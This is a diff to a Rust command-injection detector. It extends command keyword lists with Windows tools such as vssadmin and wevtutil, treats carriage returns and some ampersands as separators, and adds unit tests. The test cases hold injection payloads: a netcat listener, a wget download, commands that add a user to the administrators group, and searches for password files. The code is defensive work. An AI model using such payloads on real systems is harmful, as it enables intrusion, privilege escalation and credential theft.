@@ -9,7 +9,7 @@
 //! sentence is prose. Backtick spans that read as markdown inline code inside prose are not
 //! separators.
 
-use super::shell_line::{expansion, glob_path, splice};
+use super::shell_line::{expansion, glob_path, splice, windows_line};
 use crate::request::Location;
 
 /// Commands that are rarely English words: any clause shape counts.
@@ -77,6 +77,14 @@ const UNAMBIGUOUS: &[&str] = &[
     "schtasks",
     "icacls",
     "msiexec",
+    "findstr",
+    "taskkill",
+    "vssadmin",
+    "wevtutil",
+    "xcopy",
+    "robocopy",
+    "cacls",
+    "attrib",
 ];
 
 /// Commands that are also words of prose: they need shell-like arguments or a bare clause.
@@ -128,6 +136,7 @@ const AMBIGUOUS: &[&str] = &[
     "reg",
     "wmic",
     "net1",
+    "ver",
 ];
 
 /// Whether `v` [is prose](is_prose), computed on first use: most values never ask (no command
@@ -159,13 +168,24 @@ pub(crate) fn chained_command(v: &str, _loc: Location) -> bool {
             continue;
         }
         let sep_len = match c {
+            // A lone CR ends a command line for cmd.exe and for line-reading servers.
             b';' | b'|' | b'&' | b'\n' => 1,
+            b'\r' if b.get(i + 1) != Some(&b'\n') => 1,
             b'`' if !(markdown_code(b, i) && (prose.get() || text_around_code(v))) => 1,
             b'$' if b.get(i + 1) == Some(&b'(') => 2,
             _ => 0,
         };
+        // `fish & chips & more`: an ampersand between spaced words is the conjunction, and
+        // only a clause that is surely a command follows it.
+        let conjunction = c == b'&'
+            && i >= 2
+            && b[i - 1] == b' '
+            && b[i - 2].is_ascii_alphabetic()
+            && b.get(i + 1) == Some(&b' ');
         if sep_len > 0
-            && command_clause(&v[i + sep_len..], c != b'`', || c == b'\n' || prose.get())
+            && command_clause(&v[i + sep_len..], c != b'`', || {
+                matches!(c, b'\n' | b'\r') || conjunction || prose.get()
+            })
             && !(c == b'\n' && *graphql.get_or_insert_with(|| graphql_document(v)))
         {
             return true;
@@ -231,11 +251,11 @@ pub(crate) fn graphql_document(v: &str) -> bool {
     depth == 0
 }
 
-/// Bytes that may start a separator of [`chained_command`]: `;`, `|`, `&`, newline, backtick,
-/// and `$` (of `$(`).
+/// Bytes that may start a separator of [`chained_command`]: `;`, `|`, `&`, newline, CR,
+/// backtick, and `$` (of `$(`).
 static MAY_SEPARATE: [bool; 256] = {
     let mut t = [false; 256];
-    let seps = b";|&\n`$";
+    let seps = b";|&\n\r`$";
     let mut k = 0;
     while k < seps.len() {
         t[seps[k] as usize] = true;
@@ -375,6 +395,9 @@ fn command_clause(rest: &str, unknown_ok: bool, strict: impl FnOnce() -> bool) -
         if spliced.is_empty() && raw_end < t.len() && t.as_bytes()[raw_end] == b' ' {
             return command_clause(&t[raw_end..], unknown_ok, strict);
         }
+    }
+    if windows_line(t) {
+        return true;
     }
     if word.is_empty() {
         return false;
@@ -549,6 +572,13 @@ mod tests {
             "a=nc&&$a -nlvp 555",
             "x|$u wget http://example.com/a",
             "x;cd /;cat passwd",
+            "127.0.0.1\rwhoami",
+            "x; net user",
+            "127.0.0.1 & net localgroup administrators hacker /add",
+            "x| ver",
+            "x | findstr /s password *.txt",
+            "& for %i in (1) do whoami",
+            "x&%COMSPEC% /c dir",
         ];
         for a in attacks {
             assert!(chained_command(a, l) || substitution(a, l), "missed {a:?}");
@@ -572,6 +602,11 @@ mod tests {
             "query Q($id: ID!) {\n  user(id: $id) {\n    id\n    type\n  }\n}",
             "{\n  viewer {\n    id\n    login\n  }\n}",
             "Globs such as /images/*.png; see the docs",
+            "fish & chips & more",
+            "Windows XP; Service Pack 3 & updates",
+            "Hello\r\nI need help with my order\r\nThanks",
+            "Notes:\nset up the meeting\nping me later",
+            "AT&T; net income rose",
         ];
         for b in benign {
             assert!(
